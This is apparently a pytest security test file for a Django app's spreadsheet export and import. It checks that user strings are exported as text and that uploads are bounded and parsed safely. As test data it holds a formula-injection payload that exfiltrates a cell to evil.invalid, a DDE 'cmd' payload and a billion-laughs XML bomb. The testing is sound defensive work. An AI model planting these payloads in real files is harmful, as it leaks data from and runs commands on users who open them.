"""Spreadsheets safe in both directions: every user-supplied string goes into an export as
text, never as a formula; an import stops reading at the row limit, parses workbooks with
defusedxml, and keeps the rows out of history."""

import io
import time
import tracemalloc
import zipfile
from unittest import mock

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from core.models import Office, Project, QuarterlyReport
from core.models.reporting import ImportBatch
from core.services import exports, imports
from permissions.roles import Role

from .test_imports import good_deputies, preview, xlsx

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.invalid/?d="&C4,"详情")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "=1+1\x07"]


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def build(actor, world, kind, django_capture_on_commit_callbacks):
    from core.tasks.reporting import run_export

    with (
        mock.patch.object(run_export, "delay", side_effect=lambda *a: run_export(*a)),
        django_capture_on_commit_callbacks(execute=True),
    ):
        job = exports.export_request(
            actor=actor, kind=kind, jurisdiction=world.jurisdictions["qh"], year=2026
        )
    job.refresh_from_db()
    assert job.status == "done", job.error
    with job.file.open("rb") as handle:
        return handle.read()


def assert_no_formula(content: bytes, *, expected_texts=()):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    texts = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts[cell.value] = cell
    for text in expected_texts:
        assert text in texts, text
        assert texts[text].quotePrefix, text


def test_formula_payloads_in_every_text_field_are_exported_as_text(
    world, make_case, user_of, django_capture_on_commit_callbacks
):
    case = make_case("qh-dh", to="closed_commend")
    project = case.project
    Project.objects.filter(pk=project.pk).update(
        title=PAYLOADS[0], fund_source=PAYLOADS[1], plan_responsible=PAYLOADS[3]
    )
    QuarterlyReport.objects.filter(project=project).update(
        problems=PAYLOADS[0], milestone_notes=PAYLOADS[2]
    )
    Office.objects.filter(pk=project.lead_unit_id).update(name=PAYLOADS[4])
    supervisor = user_of("qh", Role.SUPERVISOR)
    for kind in ("progress", "votes", "satisfaction"):
        content = build(supervisor, world, kind, django_capture_on_commit_callbacks)
        expected = [PAYLOADS[0]]
        if kind == "progress":
            expected += [PAYLOADS[1], PAYLOADS[2], PAYLOADS[3], PAYLOADS[4]]
        assert_no_formula(content, expected_texts=expected)


def test_characters_a_workbook_cannot_hold_are_dropped_not_fatal(
    world, make_case, user_of, django_capture_on_commit_callbacks
):
    case = make_case("qh-dh", to="closed_commend")
    Project.objects.filter(pk=case.project.pk).update(title=PAYLOADS[5])
    content = build(
        user_of("qh", Role.SUPERVISOR), world, "votes", django_capture_on_commit_callbacks
    )
    assert_no_formula(content, expected_texts=["=1+1"])


# -- imports -------------------------------------------------------------------------


def test_an_import_stops_reading_at_the_row_limit(world, user_of):
    """Reading stops one row past the limit: the rest of the file is never read."""
    read = []

    def endless():
        yield from enumerate((["姓名", "身份证号码", "地区代码"],), start=1)
        n = 2
        while True:
            read.append(n)
            yield n, ["王", "x", "qh-dh"]
            n += 1

    with pytest.raises(ValidationError) as refused:
        imports._first_rows(endless())
    assert str(imports.TOO_MANY_ROWS % {"max": imports.MAX_ROWS}) in refused.value.messages
    assert len(read) <= imports.READ_LIMIT


def test_a_csv_of_empty_rows_is_refused_quickly_and_in_little_memory(world, user_of):
    upload = SimpleUploadedFile("roster.csv", b"\xef\xbb\xbf" + b"\n" * (2 * 1024 * 1024))
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(ValidationError) as refused:
        preview(user_of("qh", Role.CONGRESS_OFFICE), world, upload)
    elapsed = time.monotonic() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert any("rows" in m or "行" in m for m in refused.value.messages)
    assert peak < 40 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
    assert elapsed < 20


def test_openpyxl_parses_uploads_with_defusedxml():
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML


def test_an_entity_bomb_in_a_workbook_is_refused(world, user_of):
    """A sheet whose XML defines nested entities (a billion laughs): defusedxml refuses
    the definitions before anything is expanded."""
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c>'
        b'<c r="B1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>'
    )
    good = xlsx(good_deputies()).read()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            dst.writestr(item, bomb if item.filename == "xl/worksheets/sheet1.xml" else data)
    upload = SimpleUploadedFile("roster.xlsx", out.getvalue())
    with pytest.raises(ValidationError) as refused:
        preview(user_of("qh", Role.CONGRESS_OFFICE), world, upload)
    assert str(imports.UNREADABLE_FILE % {"kind": "Excel (.xlsx)"}) in refused.value.messages


def test_the_rows_stay_out_of_the_batch_history(world, user_of):
    batch = preview(user_of("qh", Role.CONGRESS_OFFICE), world, xlsx(good_deputies()))
    assert len(batch.rows) == 3
    fields = {f.name for f in ImportBatch.history.model._meta.get_fields()}
    assert "rows" not in fields and "errors" not in fields
    imports.import_apply(actor=user_of("qh", Role.CONGRESS_OFFICE), batch=batch)
    assert ImportBatch.history.filter(id=batch.pk).count() == 2
